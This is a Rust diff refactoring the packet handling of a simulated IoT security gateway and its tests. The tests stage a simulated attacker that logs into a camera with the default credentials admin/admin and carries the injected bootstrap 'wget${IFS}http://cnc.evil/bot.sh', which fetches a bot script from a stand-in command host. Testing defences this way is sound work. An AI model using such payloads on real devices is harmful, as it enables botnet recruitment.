@@ -22,11 +22,13 @@ use std::cell::RefCell;
 use std::collections::BTreeMap;
 use std::rc::Rc;
 use xlf_cloud::{CloudNode, DeviceHandler, EventPolicy, SmartCloud};
-use xlf_device::{DeviceConfig, SensorKind, SimDevice, VulnSet};
+use xlf_device::{decode_reading, DeviceConfig, SensorKind, SimDevice, VulnSet};
 use xlf_lwcrypto::kdf::derive_key;
 use xlf_lwcrypto::searchable::{Token, Tokenizer};
 use xlf_protocols::dns::{DnsRecord, RecordType};
-use xlf_simnet::{Context, Duration, Medium, Network, Node, NodeId, Packet, SimTime, TimerId};
+use xlf_simnet::{
+    Context, Duration, Kind, Medium, Network, Node, NodeId, Packet, SimTime, TimerId,
+};
 
 /// The vendor hub name every registered device is allowed to resolve
 /// (the destination a DNS-poisoning attacker tries to hijack).
@@ -406,7 +408,7 @@ impl XlfGateway {
             .map(|(name, _)| name.clone())
     }
 
-    fn handle_upstream(&mut self, ctx: &mut Context<'_>, packet: Packet, device: String) {
+    fn handle_upstream(&mut self, ctx: &mut Context<'_>, mut packet: Packet, device: String) {
         let now = ctx.now();
         if self.config.nac && self.nac.is_quarantined(&device) {
             self.dropped += 1;
@@ -420,28 +422,25 @@ impl XlfGateway {
         self.scan_payload(&device, &packet.payload, now);
 
         // WAN-bound source routing (the DDoS path) goes through NAC.
-        if let Some(final_dst) = packet.meta("final_dst").and_then(|d| d.parse::<u32>().ok()) {
-            let target = NodeId::from_raw(final_dst);
+        if let Some(target) = packet.final_dst.take() {
             if self.config.nac && self.nac.check_node(&device, target, now) != AccessDecision::Allow
             {
                 self.dropped += 1;
                 return;
             }
-            let mut fwd = packet.clone();
-            fwd.meta.remove("final_dst");
             self.forwarded += 1;
-            ctx.send(target, fwd);
+            ctx.send(target, packet);
             return;
         }
 
-        match packet.kind.as_str() {
-            "telemetry" => {
-                if let Some((attribute, value)) = parse_reading(&packet.payload) {
+        match packet.kind {
+            Kind::Telemetry { .. } => {
+                if let Some((attribute, value)) = decode_reading(&packet.payload) {
                     if self.config.appverify {
                         self.verifier.witness_event(WitnessedEvent {
                             device: device.clone(),
-                            attribute: attribute.clone(),
-                            value: value.clone(),
+                            attribute: attribute.to_string(),
+                            value: value.to_string(),
                             at: now,
                         });
                     }
@@ -449,7 +448,7 @@ impl XlfGateway {
                     // event-like attributes (motion, camera activity) are
                     // bimodal by nature and are profiled by the DFA/rate
                     // monitors instead.
-                    let seasonal = matches!(attribute.as_str(), "temperature" | "power" | "smoke");
+                    let seasonal = matches!(attribute.as_ref(), "temperature" | "power" | "smoke");
                     if self.config.dataanalytics && seasonal {
                         if let Ok(v) = value.parse::<f64>() {
                             self.analytics.observe(&device, &attribute, v, now);
@@ -457,33 +456,31 @@ impl XlfGateway {
                     }
                 }
             }
-            "event" => {
-                if let (Some(from), Some(to)) = (packet.meta("from"), packet.meta("to")) {
-                    // The device-layer malware-detection function (§IV-A4):
-                    // a device attesting a compromised state is first-class
-                    // device-layer evidence.
-                    if to == "compromised" {
-                        self.bus.report(crate::evidence::Evidence::new(
-                            now,
-                            crate::evidence::Layer::Device,
-                            &device,
-                            crate::evidence::EvidenceKind::DfaViolation,
-                            1.0,
-                            "device reported transition into a compromised state",
-                        ));
-                    }
-                    if self.config.netmonitor {
-                        self.monitor
-                            .observe_transition(&device, from, "cmd", to, now);
-                    }
-                    if self.config.appverify {
-                        self.verifier.witness_event(WitnessedEvent {
-                            device: device.clone(),
-                            attribute: "state".to_string(),
-                            value: to.to_string(),
-                            at: now,
-                        });
-                    }
+            Kind::Event { from, to } => {
+                // The device-layer malware-detection function (§IV-A4):
+                // a device attesting a compromised state is first-class
+                // device-layer evidence.
+                if to == "compromised" {
+                    self.bus.report(crate::evidence::Evidence::new(
+                        now,
+                        crate::evidence::Layer::Device,
+                        &device,
+                        crate::evidence::EvidenceKind::DfaViolation,
+                        1.0,
+                        "device reported transition into a compromised state",
+                    ));
+                }
+                if self.config.netmonitor {
+                    self.monitor
+                        .observe_transition(&device, from, "cmd", to, now);
+                }
+                if self.config.appverify {
+                    self.verifier.witness_event(WitnessedEvent {
+                        device: device.clone(),
+                        attribute: "state".to_string(),
+                        value: to.to_string(),
+                        at: now,
+                    });
                 }
             }
             _ => {}
@@ -499,49 +496,45 @@ impl XlfGateway {
 
     fn handle_downstream(&mut self, ctx: &mut Context<'_>, packet: Packet) {
         let now = ctx.now();
-        let Some(device) = packet.meta("device").map(str::to_string) else {
+        let Some(device) = packet.device.as_deref() else {
             return;
         };
-        let Some(&node) = self.devices.get(&device) else {
+        let Some(&node) = self.devices.get(device) else {
             return;
         };
-        if self.config.nac && self.nac.is_quarantined(&device) && packet.kind != "ota" {
+        if self.config.nac && self.nac.is_quarantined(device) && packet.kind != Kind::Ota {
             self.dropped += 1;
             return;
         }
-        match packet.kind.as_str() {
-            "cmd" => {
-                let action = packet
-                    .meta("command")
-                    .or_else(|| packet.meta("action"))
-                    .unwrap_or("")
-                    .to_string();
-                self.scan_payload(&device, &packet.payload, now);
-                if self.config.appverify && !self.verifier.check_command(&device, &action, now) {
+        match &packet.kind {
+            Kind::Cmd { action, command } => {
+                let action = command.as_deref().or(*action).unwrap_or("");
+                self.scan_payload(device, &packet.payload, now);
+                if self.config.appverify && !self.verifier.check_command(device, action, now) {
                     self.dropped += 1;
                     return;
                 }
                 self.forwarded += 1;
                 ctx.send(node, packet);
             }
-            "ota" => {
+            Kind::Ota => {
                 if self.config.update_vetting {
-                    if self.vetter.vet(&device, &packet.payload, now).is_err() {
+                    if self.vetter.vet(device, &packet.payload, now).is_err() {
                         self.dropped += 1;
                         return;
                     }
                 } else {
-                    self.scan_payload(&device, &packet.payload, now);
+                    self.scan_payload(device, &packet.payload, now);
                 }
                 self.forwarded += 1;
                 ctx.send(node, packet);
             }
-            "login" | "probe" => {
-                self.scan_payload(&device, &packet.payload, now);
+            Kind::Login { .. } | Kind::Probe { .. } => {
+                self.scan_payload(device, &packet.payload, now);
                 self.forwarded += 1;
                 ctx.send(node, packet);
             }
-            "dns-response" => {
+            Kind::DnsResponse { name, value, txid } => {
                 // A WAN-side DNS answer claiming to resolve a name for a
                 // device. NAC's hardened resolver adjudicates it (txid +
                 // DNSSEC checks); rejected spoofs are dropped and show up
@@ -552,14 +545,8 @@ impl XlfGateway {
                     ctx.send(node, packet);
                     return;
                 }
-                let name = packet.meta("name").unwrap_or(VENDOR_DNS_NAME).to_string();
-                let value = packet.meta("value").unwrap_or("").to_string();
-                let txid = packet
-                    .meta("txid")
-                    .and_then(|t| t.parse::<u16>().ok())
-                    .unwrap_or(0);
-                let record = DnsRecord::new(&name, RecordType::A, &value, 300);
-                match self.nac.resolve_for(&device, &name, (record, txid), now) {
+                let record = DnsRecord::new(name, RecordType::A, value, 300);
+                match self.nac.resolve_for(device, name, (record, *txid), now) {
                     Ok(_) => {
                         self.forwarded += 1;
                         ctx.send(node, packet);
@@ -575,21 +562,6 @@ impl XlfGateway {
             }
         }
     }
-}
-
-fn parse_reading(payload: &[u8]) -> Option<(String, String)> {
-    let text = String::from_utf8_lossy(payload);
-    let trimmed = text.trim_end();
-    let (kind, value) = trimmed.split_once('=')?;
-    let attribute = match kind {
-        "Temperature" => "temperature",
-        "Motion" => "motion",
-        "Power" => "power",
-        "Camera" => "stream",
-        "Smoke" => "smoke",
-        other => return Some((other.to_ascii_lowercase(), value.to_string())),
-    };
-    Some((attribute.to_string(), value.to_string()))
 }
 
 impl Node for XlfGateway {
@@ -665,10 +637,9 @@ impl Node for XlfGateway {
                         self.last_upstream.insert(device.clone(), now);
                     }
                     for size in covers {
-                        let mut pkt = Packet::new(ctx.id(), self.cloud, "cover", Vec::new())
+                        let mut pkt = Packet::new(ctx.id(), self.cloud, Kind::Cover, Vec::new())
                             .with_protocol(xlf_simnet::Protocol::Tls)
-                            .with_meta("device", &device)
-                            .with_meta("state", "cover");
+                            .with_device(&device);
                         pkt.pad_to(size);
                         self.forwarded += 1;
                         ctx.send(self.cloud, pkt);
@@ -1123,6 +1094,30 @@ mod tests {
         )
     }
 
+    /// WAN attacker recruiting the weak camera through the gateway:
+    /// login with default creds carrying a C&C bootstrap.
+    struct Recruiter {
+        gateway: NodeId,
+    }
+    impl Node for Recruiter {
+        fn on_start(&mut self, ctx: &mut Context<'_>) {
+            let login = Kind::Login {
+                user: "admin",
+                pass: "admin",
+            };
+            let bootstrap = b"wget${IFS}http://cnc.evil/bot.sh".to_vec();
+            let login = Packet::new(ctx.id(), self.gateway, login, bootstrap).with_device("cam");
+            ctx.send(self.gateway, login);
+        }
+    }
+
+    fn recruit_cam(home: &mut XlfHome) {
+        let gateway = home.gateway;
+        let attacker = home.net.add_node(Box::new(Recruiter { gateway }));
+        home.net
+            .connect(attacker, gateway, Medium::Wan.link().with_loss(0.0));
+    }
+
     #[test]
     fn benign_home_stays_quiet_under_full_xlf() {
         let mut home = basic_home(XlfConfig::full());
@@ -1153,28 +1148,7 @@ mod tests {
 
         // Attacker on the WAN recruits the weak camera through the
         // gateway: login with default creds carrying a C&C bootstrap.
-        struct Recruiter {
-            gateway: NodeId,
-        }
-        impl Node for Recruiter {
-            fn on_start(&mut self, ctx: &mut Context<'_>) {
-                let login = Packet::new(
-                    ctx.id(),
-                    self.gateway,
-                    "login",
-                    b"wget${IFS}http://cnc.evil/bot.sh".to_vec(),
-                )
-                .with_meta("device", "cam")
-                .with_meta("user", "admin")
-                .with_meta("pass", "admin");
-                ctx.send(self.gateway, login);
-            }
-        }
-        let attacker = home.net.add_node(Box::new(Recruiter {
-            gateway: home.gateway,
-        }));
-        home.net
-            .connect(attacker, home.gateway, Medium::Wan.link().with_loss(0.0));
+        recruit_cam(&mut home);
         home.net.run_until(SimTime::from_secs(400));
 
         let core = home.core.borrow();
@@ -1251,28 +1225,7 @@ mod tests {
             Duration::from_secs(3600)
         );
         // Compromise the camera: the next evaluation shortens tokens.
-        struct Recruiter {
-            gateway: NodeId,
-        }
-        impl Node for Recruiter {
-            fn on_start(&mut self, ctx: &mut Context<'_>) {
-                let login = Packet::new(
-                    ctx.id(),
-                    self.gateway,
-                    "login",
-                    b"wget${IFS}http://cnc.evil/bot.sh".to_vec(),
-                )
-                .with_meta("device", "cam")
-                .with_meta("user", "admin")
-                .with_meta("pass", "admin");
-                ctx.send(self.gateway, login);
-            }
-        }
-        let attacker = home.net.add_node(Box::new(Recruiter {
-            gateway: home.gateway,
-        }));
-        home.net
-            .connect(attacker, home.gateway, Medium::Wan.link().with_loss(0.0));
+        recruit_cam(&mut home);
         home.net.run_until(SimTime::from_secs(300));
         assert_eq!(
             home.gateway_ref().auth_proxy.token_lifetime,
